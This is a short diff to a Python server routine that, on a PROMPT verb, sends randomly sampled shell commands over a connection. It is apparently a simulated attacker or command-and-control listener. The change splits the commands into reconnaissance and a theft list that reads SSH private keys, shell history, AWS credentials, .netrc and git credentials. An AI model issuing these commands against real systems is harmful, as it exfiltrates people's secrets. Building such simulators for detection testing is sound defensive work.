@@ -111,9 +111,11 @@ def answer(connection, seed):
                 left -= len(data)
             lines.write(b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n" if http else b"OK\n")
         elif verb == b"PROMPT":
-            commands = ["id", "uname -a", "ls -la", "cat /etc/passwd", "ls -la .ssh", "cat .ssh/id_ed25519", "cat .bash_history",
-                        "ls Documents", "env", "cat /proc/version", "head -n 5 .aws/credentials"]
-            for command in rng.sample(commands, rng.randrange(3, 7)):
+            # A look around first, then what is worth taking.
+            looks = ["id", "uname -a", "ls -la", "cat /etc/passwd", "ls Documents", "env", "cat /proc/version"]
+            takes = ["cat .bash_history", "cat .ssh/id_ed25519", "head -n 5 .aws/credentials", "cat .netrc .git-credentials"]
+            commands = rng.sample(looks, rng.randrange(2, 5)) + rng.sample(takes, rng.randrange(1, 4))
+            for command in commands:
                 lines.write(command.encode() + b"\n")
                 while True:
                     line = lines.readline(65536)
